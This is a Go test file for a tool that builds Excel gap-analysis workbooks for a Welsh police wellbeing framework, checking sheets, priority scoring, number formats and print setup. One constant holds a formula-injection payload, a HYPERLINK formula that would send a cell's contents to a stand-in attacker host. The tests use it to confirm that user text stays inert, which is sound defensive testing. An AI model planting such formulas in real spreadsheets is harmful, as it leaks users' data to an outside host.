package gapanalysis

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/bluelight-wellbeing/toolkit/reports/actionstatus"
	"github.com/bluelight-wellbeing/toolkit/reports/figure"
	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc/xlsxtest"
)

const malicious = `=HYPERLINK("http://evil.example/?"&A1,"Click")`

func sample() Workbook {
	w := Workbook{
		Organisation: "Heddlu Gwent", Cycle: "2025/26", Edition: "Blue Light Wellbeing Framework, third edition (2024)",
		Produced:        time.Date(2026, 3, 14, 0, 0, 0, 0, time.UTC),
		Method:          "Area levels are means of standard levels.\n\nMedians are over validated assessments.",
		SuppressionRule: "Figures from fewer than 5 organisations are suppressed.",
	}
	for i, t := range []string{"Leadership", "Absence Management", "Creating the Environment", "Mental Health", "Personal Resilience", "Protecting the Workforce", "Occupational Health"} {
		a := Area{Title: t, Value: figure.Of(1 + 0.4*float64(i)), NationalMedian: figure.Of(2), PeerMedian: figure.Of(2.2)}
		if t == "Occupational Health" {
			a.PeerMedian = figure.SuppressedValue("fewer than 5")
		}
		w.Areas = append(w.Areas, a)
		for j := range 8 {
			w.Gaps = append(w.Gaps, Gap{StandardID: fmt.Sprintf("S%d-%02d", i+1, j+1), Area: t, Statement: "Statement " + t,
				Current: figure.Of(float64(j % 5)), Target: figure.Of(3), NationalMedian: figure.Of(2), PeerMedian: figure.Of(2.5),
				Actions: "Do the thing", Owner: "Wellbeing lead", Status: "planned", Due: time.Date(2026, 9, 30, 0, 0, 0, 0, time.UTC)})
		}
	}
	w.Gaps = append(w.Gaps, Gap{StandardID: "OH-09", Area: "Occupational Health", Statement: "-starts with minus",
		Current: figure.Of(0), Target: figure.Of(4), NationalMedian: figure.Of(2), PeerMedian: figure.SuppressedValue("fewer than 5"),
		Actions: malicious, Owner: "+44 owner", Status: "in progress"})
	w.Risks = []Risk{
		{Role: "Online child abuse investigation (POLIT)", Headcount: figure.Of(14), Band: "very high", NextReview: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), NextScreening: time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC), Overdue: true},
		{Role: "@Family liaison officers", Headcount: figure.SuppressedValue("fewer than 5 people"), Band: "high"},
	}
	w.Provision = []Indicator{
		{Label: "OK9 dogs per 1,000 staff", Unit: "per 1,000", Value: figure.Of(1.2), PeerMedian: figure.Of(0.8), NationalMedian: figure.Of(0.7), Band: figure.BandAbove80},
		{Label: "Peer supporters per 1,000 staff", Unit: "per 1,000", Value: figure.MissingValue("workforce figure missing"), PeerMedian: figure.Of(14), NationalMedian: figure.Of(12)},
		{Label: "Screening in date", Unit: "%", Value: figure.Of(85.25), PeerMedian: figure.Of(70), NationalMedian: figure.Of(72.5)},
	}
	for i := range w.Provision {
		w.Provision[i].Decimals = 1
	}
	w.Provision[2].Decimals = 0
	w.Benchmarks = []Benchmark{
		{Metric: "Leadership mean level", Unit: "level", Decimals: 1, Group: "National", N: 41, Median: figure.Of(2), Q1: figure.Of(1.5), Q3: figure.Of(2.75), P20: figure.Of(1.4), P80: figure.Of(2.9)},
		{Metric: "Occupational Health mean level", Unit: "level", Decimals: 1, Group: "Peer", N: 4, Median: figure.SuppressedValue("n<5"), Q1: figure.SuppressedValue(""), Q3: figure.SuppressedValue(""), P20: figure.SuppressedValue(""), P80: figure.SuppressedValue("")},
	}
	return w
}

func open(t *testing.T, w Workbook) (*excelize.File, []byte) {
	t.Helper()
	b, err := Build(w)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, b
}

func get(t *testing.T, f *excelize.File, sheet, c string) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, c)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestWorkbookReadsBack(t *testing.T) {
	w := sample()
	f, raw := open(t, w)
	if got, want := f.GetSheetList(), []string{SheetSummary, SheetGaps, SheetRisks, SheetProvision, SheetBenchmarks, SheetNotes}; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("sheets %v, want %v", got, want)
	}
	// Summary: figures as levels, suppressed blank; no copy of the table
	// beside it for the chart.
	for c, want := range map[string]string{"A1": "Gap analysis: Heddlu Gwent", "A8": "Leadership", "B8": "1.0", "C9": "2.0", "D8": "2.2", "D14": "", "G7": "", "G8": "", "J8": ""} {
		if got := get(t, f, SheetSummary, c); got != want {
			t.Errorf("Summary!%s = %q, want %q", c, got, want)
		}
	}
	// Gaps: priority worked out with the rule; row 2 is current 0, target 3,
	// peer 2.5 -> gap 3, score 3 x 3.5 = 10.5, High.
	for c, want := range map[string]string{"A2": "S1-01", "H2": "3.0", "I2": "10.5", "J2": "High", "J5": "Low", "N2": "planned", "G58": "", "J58": "High", "M2": "30 Sep 2026"} {
		if got := get(t, f, SheetGaps, c); got != want {
			t.Errorf("Gaps!%s = %q, want %q", c, got, want)
		}
	}
	if v := get(t, f, SheetGaps, "M2"); v == "" {
		t.Error("due date missing")
	}
	// User text that looks like a formula stays text, exactly as typed,
	// in a cell with Excel's quote prefix (set before the wrap style of
	// columns C and K, which must keep it).
	for _, c := range []struct{ sheet, cell, want string }{
		{SheetGaps, "K58", malicious}, {SheetGaps, "L58", "+44 owner"}, {SheetGaps, "C58", "-starts with minus"},
		{SheetRisks, "A3", "@Family liaison officers"},
	} {
		if got := get(t, f, c.sheet, c.cell); got != c.want {
			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
		}
		if !xlsxdoc.HasQuotePrefix(f, c.sheet, c.cell) {
			t.Errorf("%s!%s has no quote prefix", c.sheet, c.cell)
		}
		if id, _ := f.GetCellStyle(c.sheet, c.cell); c.cell[0] == 'C' || c.cell[0] == 'K' {
			if st, _ := f.GetStyle(id); st.Alignment == nil || !st.Alignment.WrapText {
				t.Errorf("%s!%s lost its wrap style", c.sheet, c.cell)
			}
		}
	}
	for _, c := range []struct{ sheet, cell string }{{SheetGaps, "K2"}, {SheetGaps, "A2"}, {SheetSummary, "A1"}} {
		if xlsxdoc.HasQuotePrefix(f, c.sheet, c.cell) {
			t.Errorf("%s!%s has a quote prefix it does not need", c.sheet, c.cell)
		}
		if formula, _ := f.GetCellFormula(c.sheet, c.cell); formula != "" {
			t.Errorf("%s!%s became a formula: %q", c.sheet, c.cell, formula)
		}
	}
	// Risk register, provision, benchmarks.
	for _, c := range []struct{ sheet, cell, want string }{
		{SheetRisks, "B2", "14"}, {SheetRisks, "B3", ""}, {SheetRisks, "F2", "yes"}, {SheetRisks, "F3", "no"}, {SheetRisks, "C2", "very high"},
		{SheetRisks, "D2", "1 Jan 2026"},
		{SheetProvision, "C2", "1.2"}, {SheetProvision, "C3", ""}, {SheetProvision, "G3", "workforce figure missing"}, {SheetProvision, "F2", "above 80th percentile"},
		{SheetProvision, "C4", "85%"},
		{SheetBenchmarks, "C2", "41"}, {SheetBenchmarks, "E2", "1.5"}, {SheetBenchmarks, "D3", ""}, {SheetBenchmarks, "H3", ""},
	} {
		if got := get(t, f, c.sheet, c.cell); got != c.want {
			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
		}
	}
	// Notes carry the priority rule, suppression rule and method.
	notes, _ := f.GetRows(SheetNotes)
	var all strings.Builder
	for _, r := range notes {
		all.WriteString(strings.Join(r, " ") + "\n")
	}
	for _, want := range []string{PriorityRule, "Figures from fewer than 5 organisations are suppressed.", "Medians are over validated assessments."} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("Notes lack %q", want)
		}
	}
	// Status drop-down.
	dvs, err := f.GetDataValidations(SheetGaps)
	if err != nil || len(dvs) != 1 {
		t.Fatalf("data validations %v, %v", dvs, err)
	}
	if dvs[0].Type != "list" || dvs[0].Sqref != "N2:N58" || !strings.Contains(dvs[0].Formula1, "in progress") {
		t.Errorf("status validation %+v", dvs[0])
	}
	// Conditional formats on gap and priority, and on overdue.
	cf, _ := f.GetConditionalFormats(SheetGaps)
	if len(cf["H2:H58"]) != 1 || cf["H2:H58"][0].Type != "data_bar" {
		t.Errorf("gap format %+v", cf["H2:H58"])
	}
	if len(cf["J2:J58"]) != 3 {
		t.Errorf("priority formats %+v", cf["J2:J58"])
	}
	if cf, _ := f.GetConditionalFormats(SheetRisks); len(cf["F2:F3"]) != 1 {
		t.Errorf("overdue format %+v", cf)
	}
	// Frozen header on every table sheet.
	for _, s := range []string{SheetGaps, SheetRisks, SheetProvision, SheetBenchmarks} {
		p, err := f.GetPanes(s)
		if err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s panes %+v %v", s, p, err)
		}
	}
	// Autofilter and chart: read the package parts.
	parts := unzip(t, raw)
	if !strings.Contains(parts["xl/worksheets/sheet2.xml"], `<autoFilter ref="$A$1:$N$58"`) {
		t.Error("Gaps has no autofilter over the table")
	}
	chart := parts["xl/charts/chart1.xml"]
	if !strings.Contains(chart, "<barChart>") || !strings.Contains(chart, "Summary&#39;!$B$8:$B$14") || !strings.Contains(chart, "Summary&#39;!$A$8:$A$14") || strings.Contains(chart, "$H$") || !strings.Contains(chart, `<dispBlanksAs val="gap"`) {
		t.Errorf("chart missing or wrong:\n%.600s", chart)
	}
	if !strings.Contains(parts["xl/worksheets/_rels/sheet1.xml.rels"], "drawing") {
		t.Error("chart not attached to Summary")
	}
}

func unzip(t *testing.T, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, zf := range z.File {
		r, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(r)
		r.Close()
		out[zf.Name] = string(data)
	}
	return out
}

func TestPriority(t *testing.T) {
	cases := []struct {
		name                  string
		current, target, peer figure.Value
		gap, score            float64
		band                  string
	}{
		{"far from target and behind peers", figure.Of(1), figure.Of(3), figure.Of(2.5), 2, 5, PriorityHigh},
		{"gap 1, two levels behind peers", figure.Of(1), figure.Of(2), figure.Of(3), 1, 3, PriorityMedium},
		{"gap 2, level with peers", figure.Of(2), figure.Of(4), figure.Of(2), 2, 2, PriorityMedium},
		{"gap 1, ahead of peers", figure.Of(3), figure.Of(4), figure.Of(2), 1, 1, PriorityLow},
		{"target met", figure.Of(3), figure.Of(3), figure.Of(4), 0, 0, PriorityLow},
		{"above target", figure.Of(4), figure.Of(3), figure.Of(4), 0, 0, PriorityLow},
		{"peer median suppressed", figure.Of(0), figure.Of(4), figure.SuppressedValue(""), 4, 4, PriorityHigh},
		{"no current level", figure.MissingValue(""), figure.Of(4), figure.Of(2), 0, 0, PriorityNotRated},
		{"no target", figure.Of(1), figure.MissingValue(""), figure.Of(2), 0, 0, PriorityNotRated},
	}
	for _, c := range cases {
		gap, score, band, _ := Priority(c.current, c.target, c.peer)
		if gap != c.gap || score != c.score || band != c.band {
			t.Errorf("%s: got gap %v score %v %s, want %v %v %s", c.name, gap, score, band, c.gap, c.score, c.band)
		}
	}
}

func TestEmptyWorkbook(t *testing.T) {
	f, _ := open(t, Workbook{Organisation: "Empty", Produced: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
	if len(f.GetSheetList()) != 6 {
		t.Error(f.GetSheetList())
	}
}

func BenchmarkBuild(b *testing.B) {
	w := sample()
	for b.Loop() {
		if _, err := Build(w); err != nil {
			b.Fatal(err)
		}
	}
}

// TestNumbersAreFormatted checks every numeric column, read back: each cell
// is a number with a number format, or blank with a comment saying why;
// never a word.
func TestNumbersAreFormatted(t *testing.T) {
	w := sample()
	f, _ := open(t, w)
	for _, c := range []struct {
		sheet      string
		cols       []string
		first, end int
	}{
		{SheetSummary, []string{"B", "C", "D"}, 8, 7 + len(w.Areas)},
		{SheetGaps, []string{"D", "E", "F", "G", "H", "I", "M"}, 2, 1 + len(w.Gaps)},
		{SheetRisks, []string{"B", "D", "E"}, 2, 1 + len(w.Risks)},
		{SheetProvision, []string{"C", "D", "E"}, 2, 1 + len(w.Provision)},
		{SheetBenchmarks, []string{"C", "D", "E", "F", "G", "H"}, 2, 1 + len(w.Benchmarks)},
	} {
		comments, err := f.GetComments(c.sheet)
		if err != nil {
			t.Fatal(err)
		}
		noted := map[string]string{}
		for _, cm := range comments {
			noted[cm.Cell] = cm.Text
		}
		for cell, format := range xlsxtest.Numbers(t, f, c.sheet, c.cols, c.first, c.end) {
			if format != xlsxdoc.FormatDate && noted[cell] == "" { // a date may be unset
				t.Errorf("%s!%s is blank with no comment saying why", c.sheet, cell)
			}
		}
	}
	comments, _ := f.GetComments(SheetGaps)
	var found bool
	for _, cm := range comments {
		found = found || cm.Cell == "G58" && strings.Contains(cm.Text, "suppressed: fewer than 5")
	}
	if !found {
		t.Errorf("Gaps!G58 has no comment saying it is suppressed: %+v", comments)
	}
	if id, _ := f.GetCellStyle(SheetGaps, "D2"); id != 0 {
		if st, _ := f.GetStyle(id); st.CustomNumFmt == nil || *st.CustomNumFmt != "0.0" {
			t.Errorf("levels are not formatted 0.0: %+v", st)
		}
	}
}

// TestSizesAndProperties: every sheet declares its real size, and the
// workbook its title, author and organisation.
func TestSizesAndProperties(t *testing.T) {
	w := sample()
	f, _ := open(t, w)
	xlsxtest.Dimensions(t, f, map[string]string{SheetGaps: "A1:N58", SheetRisks: "A1:F3", SheetBenchmarks: "A1:H3", SheetSummary: "A1:D14"})
	xlsxtest.Properties(t, f, "Gap analysis: Heddlu Gwent, 2025/26", "Heddlu Gwent")
}

// TestTablesAreNamed: each table can be reached by a workbook-wide name
// that covers its header and every row.
func TestTablesAreNamed(t *testing.T) {
	w := sample()
	f, _ := open(t, w)
	want := map[string]string{
		"AreaLevels":       "'Summary'!$A$7:$D$14",
		"Gaps":             "'Gaps'!$A$1:$N$58",
		"RiskRegister":     "'Risk register'!$A$1:$F$3",
		"Provision":        "'Provision'!$A$1:$G$4",
		"BenchmarkFigures": "'Benchmark figures'!$A$1:$H$3",
	}
	got := map[string]string{}
	for _, n := range f.GetDefinedName() {
		if n.Scope == "Workbook" {
			got[n.Name] = n.RefersTo
		}
	}
	for name, ref := range want {
		if got[name] != ref {
			t.Errorf("name %s refers to %q, want %q (all: %v)", name, got[name], ref, got)
		}
	}
	if v, err := f.GetCellValue(SheetRisks, "A3"); err != nil || !strings.Contains(v, "Family liaison") {
		t.Errorf("the last row of RiskRegister holds %q, %v", v, err)
	}
}

func TestPrintSetup(t *testing.T) {
	f, _ := open(t, sample())
	table := xlsxtest.Sheet{Landscape: true, Titled: true}
	xlsxtest.PrintSetup(t, f, "Heddlu Gwent · gap analysis · 2025/26", map[string]xlsxtest.Sheet{
		SheetSummary: {Landscape: true}, SheetGaps: table, SheetRisks: table, SheetProvision: table, SheetBenchmarks: table, SheetNotes: {},
	})
}

// The Status column offers the one list of action statuses; a standard
// with no actions says so in words that are not a status.
func TestStatuses(t *testing.T) {
	w := sample()
	w.Gaps[0].Actions, w.Gaps[0].Owner, w.Gaps[0].Status = "", "", ""
	f, _ := open(t, w)
	if got := get(t, f, SheetGaps, "N2"); got != actionstatus.NoActions {
		t.Errorf("status of a standard with no actions = %q, want %q", got, actionstatus.NoActions)
	}
	dvs, err := f.GetDataValidations(SheetGaps)
	if err != nil || len(dvs) != 1 {
		t.Fatalf("data validations %v, %v", dvs, err)
	}
	want := `"` + strings.Join(append(slices.Clone(actionstatus.Statuses), actionstatus.NoActions), ",") + `"`
	if dvs[0].Formula1 != want || strings.Contains(dvs[0].Formula1, "not started") {
		t.Errorf("status drop-down %s, want %s", dvs[0].Formula1, want)
	}
}

// A workbook that compares with the sector says so in every heading that
// would otherwise say "Peer".
func TestComparatorHeadings(t *testing.T) {
	w := sample()
	w.Comparator = "Sector"
	f, _ := open(t, w)
	var all []string
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			all = append(all, r...)
		}
	}
	text := strings.Join(all, "|")
	for _, want := range []string{"|Sector median|", "|Band against sector|"} {
		if !strings.Contains(text, want) {
			t.Errorf("no heading %q", strings.Trim(want, "|"))
		}
	}
	if strings.Contains(text, "Peer median") || strings.Contains(text, "against peers") {
		t.Error("a heading still calls the sector a peer group")
	}
}
